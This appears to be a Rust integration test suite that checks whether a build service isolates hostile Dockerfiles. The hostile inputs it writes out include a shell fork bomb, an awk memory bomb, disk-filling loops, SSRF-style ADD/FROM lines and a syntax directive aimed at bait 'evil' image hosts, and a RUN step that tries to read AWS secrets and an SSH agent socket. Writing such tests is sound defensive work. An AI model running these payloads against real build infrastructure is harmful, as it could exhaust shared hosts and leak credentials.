//! One hostile Dockerfile harms no one else: each attack on the build side, submitted through the
//! HTTP API of a real `perfbox serve` to the real rootless buildkitd, while an ordinary job of
//! another owner builds beside it. Every trial asserts that the attack failed (with a clear
//! reason) and that the ordinary job succeeded with its own perf.
//!
//! Owners are tokens: `mallory` attacks, `alice` submits the ordinary job (each owner holds one
//! build slot at most, so the two build at the same time).
//!
//! Network rule: every connection these tests invite goes to a listener on 127.0.0.1 that they
//! made, and each asserts that the listener was never reached.

mod common;

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use common::service::{Service, stop_all};
use common::*;
use libtest_mimic::{Arguments, Failed, Trial};
use serde_json::Value;

const MALLORY: &str = "mallory-token-7f3a9c";
const ALICE: &str = "alice-token-b81d2e";
const TOKENS: (&str, &str) = (
    "PERFBOX_TOKENS",
    "mallory=mallory-token-7f3a9c,alice=alice-token-b81d2e",
);

fn nonce() -> String {
    uuid::Uuid::new_v4().simple().to_string()
}

/// A service with the two owners, `config` (TOML) as its config file, and `env` on top.
fn service(tag: &str, config: &str, env: &[(&str, &str)]) -> Service {
    let mut all = vec![TOKENS];
    all.extend_from_slice(env);
    Service::start_config(tag, config, &all)
}

fn bearer(token: &str) -> String {
    format!("Authorization: Bearer {token}")
}

/// Submit `dockerfile` as `token` with extra curl args (e.g. `-F build_arg=...`): (status, body).
fn submit_as(s: &Service, token: &str, dockerfile: &str, extra: &[&str]) -> (u16, Value) {
    let path = s.dir.path().join(format!("{}.Dockerfile", nonce()));
    std::fs::write(&path, dockerfile).unwrap();
    let auth = bearer(token);
    let file = format!("file=@{}", path.display());
    let mut args = vec!["-H", &auth, "-X", "POST", "-F", &file];
    args.extend_from_slice(extra);
    args.push("/job/build");
    s.curl(&args)
}

fn submit_ok(s: &Service, token: &str, dockerfile: &str) -> i64 {
    let (code, v) = submit_as(s, token, dockerfile, &[]);
    assert_eq!(code, 202, "{v}");
    v["id"].as_i64().unwrap()
}

fn get_as(s: &Service, token: &str, path: &str) -> Value {
    let auth = bearer(token);
    let (code, v) = s.curl(&["-H", &auth, path]);
    assert_eq!(code, 200, "{path}: {v}");
    v
}

/// Poll until the job ends; its final `/job/performance` answer.
fn wait_as(s: &Service, token: &str, id: i64, within: Duration) -> Value {
    s.wait_with(id, Some(token), within)
}

fn record(s: &Service, token: &str, id: i64) -> Value {
    get_as(s, token, &format!("/job/{id}"))
}

/// alice's ordinary job (a RUN step and a CMD writing a perf of its own), started now on a
/// thread: join it to get its final answer, checked.
fn ordinary_job_beside(s: &Service) -> JoinHandle<()> {
    let perf = (100 + rand_u64() % 800) as f64 / 1000.0;
    let df = format!(
        "FROM busybox\nRUN echo ordinary-{} > /o\nCMD echo '{{\"perf\": {perf}}}' > /data/perf.json\n",
        nonce()
    );
    let id = submit_ok(s, ALICE, &df);
    let (port, dir) = (s.port, s.dir.path().to_path_buf());
    std::thread::spawn(move || {
        // A fresh view of the same service (the thread cannot borrow it).
        let view = ServiceView { port, _dir: dir };
        let v = view.wait(id);
        assert_eq!(
            v["status"], "succeeded",
            "the ordinary job beside the attack: {v}"
        );
        assert_eq!(v["perf"].as_f64(), Some(perf), "its own perf: {v}");
    })
}

/// Just enough of a service to poll it from another thread.
struct ServiceView {
    port: u16,
    _dir: std::path::PathBuf,
}

impl ServiceView {
    fn wait(&self, id: i64) -> Value {
        let deadline = Instant::now() + Duration::from_secs(240);
        loop {
            let out = std::process::Command::new("curl")
                .args(["-sS", "-m", "30", "-H", &bearer(ALICE)])
                .arg(format!(
                    "http://127.0.0.1:{}/job/performance/{id}",
                    self.port
                ))
                .output()
                .unwrap();
            let v: Value = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
            if !matches!(
                v["status"].as_str(),
                Some("queued" | "building" | "running")
            ) {
                return v;
            }
            assert!(
                Instant::now() < deadline,
                "ordinary job {id} did not finish: {v}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

fn rand_u64() -> u64 {
    u64::from_str_radix(&nonce()[..12], 16).unwrap()
}

fn join(h: JoinHandle<()>) -> Result<(), Failed> {
    h.join().map_err(|e| {
        let msg = e
            .downcast_ref::<String>()
            .cloned()
            .or_else(|| e.downcast_ref::<&str>().map(|s| s.to_string()))
            .unwrap_or_default();
        Failed::from(format!("the ordinary job beside the attack: {msg}"))
    })
}

/// Submit `dockerfile` as mallory while an ordinary job of alice builds beside it; mallory's
/// job's final answer, once the ordinary job was checked.
fn attack_beside(s: &Service, dockerfile: &str) -> Result<Value, Failed> {
    let id = submit_ok(s, MALLORY, dockerfile);
    let beside = ordinary_job_beside(s);
    let v = wait_as(s, MALLORY, id, Duration::from_secs(180));
    join(beside)?;
    Ok(v)
}

/// A listener on the host's loopback counting connections (a stand-in for any host service).
struct Bait {
    port: u16,
    hits: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Bait {
    fn new() -> Self {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        let port = l.local_addr().unwrap().port();
        let (hits, stop) = (
            Arc::new(AtomicUsize::new(0)),
            Arc::new(AtomicBool::new(false)),
        );
        let thread = {
            let (hits, stop) = (hits.clone(), stop.clone());
            std::thread::spawn(move || {
                while !stop.load(Ordering::SeqCst) {
                    if l.accept().is_ok() {
                        hits.fetch_add(1, Ordering::SeqCst);
                    }
                    std::thread::sleep(Duration::from_millis(10));
                }
            })
        };
        Bait {
            port,
            hits,
            stop,
            thread: Some(thread),
        }
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

impl Drop for Bait {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// The build daemon's pid now, for "the daemon's process is unchanged".
fn daemon_pid() -> Vec<i32> {
    require_buildkitd(&buildkit_socket());
    main_buildkitd_pids()
}

// ---- 1. server-side request forgery through the daemon -------------------------------------------

fn remote_sources_are_denied() -> Result<(), Failed> {
    let s = service("iso-ssrf", "", &[]);
    let bait = Bait::new();
    let daemon = daemon_pid();
    let beside = ordinary_job_beside(&s);
    let (api, reg, b) = (s.port, registry_port(), bait.port);
    // (Dockerfile, the instruction the reason must name)
    let attacks = [
        (
            format!("FROM busybox\nADD http://127.0.0.1:{api}/healthz /x\n"),
            format!("line 2: ADD http://127.0.0.1:{api}/healthz /x"),
        ),
        (
            format!("FROM busybox\nADD http://127.0.0.1:{reg}/v2/_catalog /y\n"),
            format!("line 2: ADD http://127.0.0.1:{reg}/v2/_catalog /y"),
        ),
        (
            format!("FROM busybox\nRUN true\nADD https://127.0.0.1:{b}/secret /z\n"),
            format!("line 3: ADD https://127.0.0.1:{b}/secret /z"),
        ),
        (
            format!("FROM 127.0.0.1:{b}/evil/image:1\n"),
            format!("line 1: FROM 127.0.0.1:{b}/evil/image:1"),
        ),
        (
            format!("FROM busybox\nCOPY --from=127.0.0.1:{b}/x:1 /a /b\n"),
            format!("line 2: COPY --from=127.0.0.1:{b}/x:1 /a /b"),
        ),
        (
            format!("FROM busybox\nRUN --mount=from=127.0.0.1:{b}/y:1,target=/m true\n"),
            format!("line 2: RUN --mount=from=127.0.0.1:{b}/y:1,target=/m true"),
        ),
        (
            format!("FROM busybox\nADD http://127.0.0.1:{b}/repo.git#main /r\n"),
            "git://127.0.0.1".to_string(),
        ),
        (
            "FROM quay.io/evil/image:1\n".to_string(),
            "line 1: FROM quay.io/evil/image:1".to_string(),
        ),
    ];
    let ids: Vec<(i64, &String)> = attacks
        .iter()
        .map(|(df, why)| (submit_ok(&s, MALLORY, df), why))
        .collect();
    for (id, why) in ids {
        let v = wait_as(&s, MALLORY, id, Duration::from_secs(120));
        assert_eq!(v["status"], "build_failed", "{v}");
        let err = v["error"].as_str().unwrap_or("");
        assert!(err.contains("which perfbox does not fetch"), "{err}");
        assert!(
            err.contains(why.as_str()),
            "the reason must name `{why}`: {err}"
        );
    }
    join(beside)?;
    assert_eq!(bait.hits(), 0, "the daemon connected to a host service");
    assert_eq!(daemon_pid(), daemon, "buildkitd's process changed");
    Ok(())
}

// ---- 2. RUN steps cannot take the daemon down ---------------------------------------------------------

/// The build cgroup of job `id` of `s` (named by its scope: `job-<id>-<instance>`).
fn build_cgroup_dir_of(s: &Service, id: i64) -> std::path::PathBuf {
    let instance = std::fs::read_to_string(s.state().join("instance")).unwrap();
    let path = format!("{}-build/runs/job-{id}-{}", cgroup_name(), instance.trim());
    if cgroup_v2_host() {
        std::path::Path::new("/sys/fs/cgroup").join(path)
    } else {
        std::path::Path::new("/sys/fs/cgroup/pids").join(path)
    }
}

fn run_fork_bomb_is_contained() -> Result<(), Failed> {
    let s = service("iso-forkbomb", "[build]\npids = 128\n", &[]);
    let daemon = daemon_pid();
    // (busybox sh exits when it cannot fork, so the bomb's population peaks at the limit for a
    // moment and collapses; it is started again and again for 6 s.)
    let df = format!(
        "FROM busybox\nRUN echo {}; end=$(($(date +%s) + 6)); while [ $(date +%s) -lt $end ]; do \
         sh -c 'b() {{ b & b & wait; }}; b' 2>/dev/null; done; echo the bomb ran out\n",
        nonce()
    );
    let id = submit_ok(&s, MALLORY, &df);
    let beside = ordinary_job_beside(&s);
    // While it builds: its own cgroup fills up to its own limit, and the host still forks.
    let dir = build_cgroup_dir_of(&s, id);
    let mut peak = 0u64;
    let mut at_limit = 0;
    let deadline = Instant::now() + Duration::from_secs(120);
    let mut last_poll = Instant::now() - Duration::from_secs(1);
    loop {
        if last_poll.elapsed() > Duration::from_millis(300) {
            last_poll = Instant::now();
            let v = get_as(&s, MALLORY, &format!("/job/performance/{id}"));
            if v["status"] != "queued" && v["status"] != "building" {
                break;
            }
            assert!(
                std::process::Command::new("true").status()?.success(),
                "the host cannot fork"
            );
        }
        if let Ok(n) = std::fs::read_to_string(dir.join("pids.current")) {
            let n = n.trim().parse().unwrap_or(0);
            peak = peak.max(n);
            at_limit += usize::from(n == 128);
        }
        assert!(Instant::now() < deadline, "the bomb job did not end");
        std::thread::sleep(Duration::from_millis(5));
    }
    join(beside)?;
    wait_as(&s, MALLORY, id, Duration::from_secs(60));
    let rec = record(&s, MALLORY, id);
    eprintln!(
        "  bomb's build cgroup peaked at {peak} tasks (limit 128; at the limit in {at_limit} samples); record: {}",
        rec["build"]["cgroup"]
    );
    assert_eq!(rec["build"]["cgroup"]["limits"]["pids"], 128, "{rec}");
    assert_eq!(rec["build"]["cgroup"]["used"], true, "{rec}");
    assert_eq!(peak, 128, "the bomb was not held at its own limit");
    assert!(!dir.exists(), "the build's cgroup was not removed");
    assert_eq!(daemon_pid(), daemon, "buildkitd's process changed");
    Ok(())
}

fn run_memory_bomb_is_contained() -> Result<(), Failed> {
    let s = service("iso-membomb", "[build]\nmemory_bytes = 268435456\n", &[]);
    let daemon = daemon_pid();
    let df = format!(
        "FROM busybox\nRUN echo {}; awk 'BEGIN {{ s = \"xxxxxxxxxxxxxxxx\"; while (1) s = s s }}'\n",
        nonce()
    );
    let v = attack_beside(&s, &df)?;
    assert_eq!(v["status"], "build_failed", "{v}");
    let err = v["error"].as_str().unwrap_or("");
    assert!(
        err.contains("RUN failed on line 2") && err.contains("137"),
        "{err}"
    );
    let rec = record(&s, MALLORY, v["job"].as_i64().unwrap());
    assert_eq!(
        rec["build"]["cgroup"]["limits"]["memory_bytes"], 268435456u64,
        "{rec}"
    );
    assert_eq!(daemon_pid(), daemon, "buildkitd's process changed");
    Ok(())
}

// ---- 3. one image cannot fill the disk --------------------------------------------------------------

/// [`attack_beside`] while watching free disk: the attack's answer (it must be `build_failed`)
/// and the most free disk dropped meanwhile.
fn disk_attack(s: &Service, dockerfile: &str) -> Result<(Value, u64), Failed> {
    let mut disk = LowestFreeDisk::start();
    let v = attack_beside(s, dockerfile)?;
    let drop = disk.stop();
    eprintln!(
        "  free disk dropped by at most {} MB during the attack",
        drop >> 20
    );
    assert_eq!(v["status"], "build_failed", "{v}");
    Ok((v, drop))
}

fn sparse_giant_is_refused_at_export() -> Result<(), Failed> {
    let max = 64u64 << 20;
    let s = service(
        "iso-sparse",
        &format!("[build]\nmax_image_bytes = {max}\n"),
        &[],
    );
    let df = format!(
        "FROM busybox\nRUN echo {}; truncate -s 256G /big\n",
        nonce()
    );
    let (v, drop) = disk_attack(&s, &df)?;
    let err = v["error"].as_str().unwrap_or("");
    assert!(
        err.contains(&format!("larger than the {max} byte limit")) && err.contains("\"big\""),
        "{err}"
    );
    // The ordinary job's image and logs are a few MB; other tests may write beside this one.
    assert!(
        drop < max + (128 << 20),
        "free disk dropped by {drop} bytes"
    );
    Ok(())
}

fn run_step_disk_writer_is_stopped() -> Result<(), Failed> {
    let max = 256u64 << 20;
    let s = service(
        "iso-writer",
        &format!("[build]\nmax_image_bytes = {max}\nmax_image_files = 5000\n"),
        &[],
    );
    // Real blocks, written until the disk is full unless something stops it; as another user
    // (a subuid), in a directory the service's own uid cannot read.
    let writer = format!(
        "FROM busybox\nRUN echo {}; mkdir /hide && chown 1000 /hide && chmod 700 /hide\n\
         USER 1000\nRUN i=0; while :; do head -c 8388608 /dev/zero > /hide/f$i; i=$((i+1)); done\n",
        nonce()
    );
    let (v, drop) = disk_attack(&s, &writer)?;
    let err = v["error"].as_str().unwrap_or("");
    assert!(
        err.contains("the build was stopped: its RUN steps wrote")
            && err.contains("max_image_bytes"),
        "{err}"
    );
    assert!(drop < max + (1 << 30), "free disk dropped by {drop} bytes");
    // Into a cache mount (which BuildKit keeps after the stop, unlike the step's own snapshot):
    // counted by the same cap (before, only the 2 GiB free-disk floor stopped it: 35 GB
    // written here), and pruned afterwards — only the stopped job's own cache mounts, never
    // another scope's (tests/build_isolation's owner-scope trial plants one beside this).
    let cache_writer = format!(
        "FROM busybox\nRUN echo {}; i=0; while :; do head -c 8388608 /dev/zero > /c/f$i; i=$((i+1)); done\n",
        nonce()
    )
    .replace("RUN echo", "RUN --mount=type=cache,target=/c echo");
    let (v, drop) = disk_attack(&s, &cache_writer)?;
    let err = v["error"].as_str().unwrap_or("");
    assert!(
        err.contains("the build was stopped: its RUN steps wrote")
            && err.contains("max_image_bytes"),
        "a cache mount writer was not stopped by the write cap: {err}"
    );
    assert!(
        drop < max + (1 << 30),
        "free disk dropped by {drop} bytes (cache mount)"
    );
    let id = v["job"].as_i64().unwrap();
    let (_, logs) = s
        .try_curl(&["-H", &bearer(MALLORY), &format!("/job/{id}/logs")])
        .unwrap();
    let freed: u64 = logs
        .lines()
        .find_map(|l| {
            l.strip_prefix("perfbox: pruned ")?
                .split(' ')
                .next()?
                .parse()
                .ok()
        })
        .unwrap_or_else(|| panic!("no prune in the build log: {logs}"));
    assert!(
        freed > 64 << 20,
        "the stopped job's cache mount was not pruned: {freed} bytes freed"
    );
    // Many small files: stopped by the file count.
    let files = format!(
        "FROM busybox\nRUN echo {}; mkdir /m; i=0; while :; do : > /m/f$i; i=$((i+1)); done\n",
        nonce()
    );
    let v = wait_as(
        &s,
        MALLORY,
        submit_ok(&s, MALLORY, &files),
        Duration::from_secs(180),
    );
    assert_eq!(v["status"], "build_failed", "{v}");
    assert!(
        v["error"]
            .as_str()
            .unwrap_or("")
            .contains("max_image_files"),
        "{v}"
    );
    Ok(())
}

// ---- 4. no cache crosses between jobs ----------------------------------------------------------------

/// A Dockerfile whose perf says what the cache mount `id=shared` held: 1 = mallory's plant,
/// 0.5 = nothing.
fn cache_reader() -> String {
    "FROM busybox\nRUN --mount=type=cache,id=shared,target=/c (cat /c/s 2>/dev/null || echo empty) > /seen\n\
     CMD if grep -q planted /seen; then echo '{\"perf\": 1}'; else echo '{\"perf\": 0.5}'; fi > /data/perf.json\n"
        .to_string()
}

fn plant(s: &Service, token: &str, mark: &str) {
    let df = format!(
        "FROM busybox\nRUN --mount=type=cache,id=shared,target=/c echo planted-{mark} > /c/s\nCMD echo '{{\"perf\": 0}}' > /data/perf.json\n"
    );
    let v = wait_as(s, token, submit_ok(s, token, &df), Duration::from_secs(120));
    assert_eq!(v["status"], "succeeded", "plant: {v}");
}

fn read_cache(s: &Service, token: &str) -> f64 {
    let v = wait_as(
        s,
        token,
        submit_ok(s, token, &cache_reader()),
        Duration::from_secs(120),
    );
    assert_eq!(v["status"], "succeeded", "reader: {v}");
    v["perf"].as_f64().unwrap()
}

fn cache_mounts_stay_in_their_job() -> Result<(), Failed> {
    let s = service("iso-cache-job", "", &[]);
    let beside = ordinary_job_beside(&s);
    plant(&s, MALLORY, &nonce());
    assert_eq!(
        read_cache(&s, ALICE),
        0.5,
        "alice read mallory's cache mount"
    );
    assert_eq!(
        read_cache(&s, MALLORY),
        0.5,
        "a later job of the same owner read it (scope: job)"
    );
    // Secret and SSH mounts get nothing from the host.
    let df = "FROM busybox\nRUN --mount=type=secret,id=aws,required=false --mount=type=ssh,required=false \
              (cat /run/secrets/aws 2>/dev/null; echo \"ssh=$SSH_AUTH_SOCK\"; ls /run/buildkit/ssh_agent.0 2>&1) > /leak\n\
              CMD if grep -q -v -e '^ssh=$' -e 'No such file' /leak; then echo '{\"perf\": 1}'; else echo '{\"perf\": 0.5}'; fi > /data/perf.json\n";
    let v = wait_as(
        &s,
        MALLORY,
        submit_ok(&s, MALLORY, df),
        Duration::from_secs(120),
    );
    assert!(
        v["status"] == "build_failed" || v["perf"] == 0.5,
        "a secret or ssh mount got something from the host: {v}"
    );
    join(beside)?;
    Ok(())
}

fn owner_scope_never_crosses_owners() -> Result<(), Failed> {
    let s = service("iso-cache-owner", "[build]\ncache_scope = \"owner\"\n", &[]);
    let beside = ordinary_job_beside(&s);
    let mark = nonce();
    plant(&s, MALLORY, &mark);
    // Control: within one owner the cache is shared, so the reader can tell a plant.
    assert_eq!(read_cache(&s, MALLORY), 1.0, "the owner's own cache mount");
    // alice's identical reader: neither mallory's mount nor mallory's RUN result (BuildKit drops
    // an explicit cache id from the RUN cache key; the scope keeps it in).
    assert_eq!(read_cache(&s, ALICE), 0.5, "alice read mallory's cache");
    join(beside)?;
    Ok(())
}

fn buildkit_knobs_are_refused() -> Result<(), Failed> {
    let s = service("iso-knobs", "", &[]);
    let beside = ordinary_job_beside(&s);
    let total = || get_as(&s, MALLORY, "/jobs")["total"].as_i64().unwrap();
    let before = total();
    for arg in [
        "build_arg=BUILDKIT_CACHE_MOUNT_NS=job-1",
        "build_arg=BUILDKIT_SYNTAX=127.0.0.1:1/x",
        "build_arg=buildkit_sandbox_hostname=x",
    ] {
        let (code, v) = submit_as(&s, MALLORY, "FROM busybox\n", &["-F", arg]);
        assert_eq!(code, 400, "{arg}: {v}");
        assert!(
            v["error"].as_str().unwrap_or("").contains("BUILDKIT_"),
            "{v}"
        );
    }
    let (code, v) = submit_as(&s, MALLORY, "FROM busybox\n", &["-F", "bogus=1"]);
    assert_eq!(code, 400, "{v}");
    assert_eq!(total(), before, "a refused submission queued a job");
    // Ordinary build args do work.
    let (code, v) = submit_as(
        &s,
        MALLORY,
        "FROM busybox\nARG SCORE=0\nRUN echo $SCORE > /score\nCMD echo \"{\\\"perf\\\": $(cat /score)}\" > /data/perf.json\n",
        &["-F", "build_arg=SCORE=0.625"],
    );
    assert_eq!(code, 202, "{v}");
    let v = wait_as(
        &s,
        MALLORY,
        v["id"].as_i64().unwrap(),
        Duration::from_secs(120),
    );
    assert_eq!(v["perf"], 0.625, "{v}");
    join(beside)?;
    Ok(())
}

// ---- 5. `# syntax=` ------------------------------------------------------------------------------------

fn syntax_directives_build_offline() -> Result<(), Failed> {
    let s = service("iso-syntax", "", &[]);
    let bait = Bait::new();
    let beside = ordinary_job_beside(&s);
    for (directive, perf) in [
        ("# syntax=docker/dockerfile:1".to_string(), 0.25),
        (
            format!(
                "#!/bin/false\n# SYNTAX = 127.0.0.1:{}/evil/frontend:1",
                bait.port
            ),
            0.75,
        ),
    ] {
        let df = format!(
            "{directive}\nFROM busybox\nRUN echo {}\nCMD echo '{{\"perf\": {perf}}}' > /data/perf.json\n",
            nonce()
        );
        let id = submit_ok(&s, MALLORY, &df);
        let v = wait_as(&s, MALLORY, id, Duration::from_secs(120));
        assert_eq!(v["status"], "succeeded", "{directive}: {v}");
        assert_eq!(v["perf"], perf);
        let auth = bearer(MALLORY);
        let (_, log) = s.curl(&["-H", &auth, &format!("/job/{id}/logs")]);
        assert!(
            log.as_str()
                .unwrap_or("")
                .contains("perfbox: ignoring the directive"),
            "{log}"
        );
        let rec = record(&s, MALLORY, id);
        assert!(
            rec["build"]["frontend"]
                .as_str()
                .unwrap()
                .contains("ignored"),
            "{rec}"
        );
    }
    join(beside)?;
    assert_eq!(bait.hits(), 0, "a frontend image was fetched");
    Ok(())
}

// ---- 6. slow builds cannot stall everyone ---------------------------------------------------------------

fn slow_builds_of_one_owner_leave_slots_for_others() -> Result<(), Failed> {
    let s = service("iso-fair", "", &[("PERFBOX_BUILD_TIMEOUT_SECS", "600")]);
    let slow: Vec<i64> = (0..2)
        .map(|i| {
            submit_ok(
                &s,
                MALLORY,
                &format!("FROM busybox\nRUN echo {}-{i}; sleep 100000\n", nonce()),
            )
        })
        .collect();
    // Wait until mallory's first build holds a slot.
    let deadline = Instant::now() + Duration::from_secs(60);
    while get_as(&s, MALLORY, &format!("/job/performance/{}", slow[0]))["status"] != "building" {
        assert!(Instant::now() < deadline, "the slow build never started");
        std::thread::sleep(Duration::from_millis(100));
    }
    let t = Instant::now();
    join(ordinary_job_beside(&s))?;
    eprintln!(
        "  alice's job finished in {:?} beside mallory's slow builds",
        t.elapsed()
    );
    let second = get_as(&s, MALLORY, &format!("/job/performance/{}", slow[1]));
    assert_eq!(
        second["status"], "queued",
        "mallory took a second build slot: {second}"
    );
    assert_eq!(
        get_as(&s, MALLORY, &format!("/job/performance/{}", slow[0]))["status"],
        "building"
    );
    let auth = bearer(MALLORY);
    for id in slow {
        let (code, v) = s.curl(&["-H", &auth, "-X", "DELETE", &format!("/job/{id}")]);
        assert_eq!(code, 200, "{v}");
        assert_eq!(v["status"], "cancelled", "{v}");
    }
    Ok(())
}

fn main() {
    require_setup();
    require_buildkitd(&buildkit_socket());
    let args = Arguments::from_args();
    // Where the host cannot give builds cgroups of their own, the bomb trials say so as skips.
    let uid = nix::unistd::User::from_name(user())
        .unwrap()
        .unwrap()
        .uid
        .as_raw();
    let cgroups = perfbox::sandbox::build_cgroup::BuildCgroups::detect(
        &format!("{}-build/runs", cgroup_parent()),
        uid,
    );
    let bomb = |name: &str, f: fn() -> Result<(), Failed>| match &cgroups {
        perfbox::sandbox::build_cgroup::BuildCgroups::Unavailable { reason } => {
            skipped(name, reason)
        }
        _ => Trial::test(name, f),
    };
    let trials = vec![
        Trial::test(
            "ssrf_remote_and_foreign_sources_are_denied",
            remote_sources_are_denied,
        ),
        bomb(
            "run_fork_bomb_is_held_in_its_build_cgroup",
            run_fork_bomb_is_contained,
        ),
        bomb(
            "run_memory_bomb_is_held_in_its_build_cgroup",
            run_memory_bomb_is_contained,
        ),
        Trial::test(
            "sparse_256g_file_is_refused_at_export",
            sparse_giant_is_refused_at_export,
        ),
        bomb(
            "run_step_disk_writer_is_stopped_at_its_limit",
            run_step_disk_writer_is_stopped,
        ),
        Trial::test(
            "cache_mounts_stay_in_their_job_secrets_get_nothing",
            cache_mounts_stay_in_their_job,
        ),
        Trial::test(
            "owner_cache_scope_never_crosses_owners",
            owner_scope_never_crosses_owners,
        ),
        Trial::test(
            "buildkit_build_args_are_refused_with_400",
            buildkit_knobs_are_refused,
        ),
        Trial::test(
            "syntax_directives_are_ignored_and_build_offline",
            syntax_directives_build_offline,
        ),
        Trial::test(
            "slow_builds_of_one_owner_leave_slots_for_others",
            slow_builds_of_one_owner_leave_slots_for_others,
        ),
    ];
    let conclusion = libtest_mimic::run(&args, trials);
    stop_all();
    conclusion.exit();
}
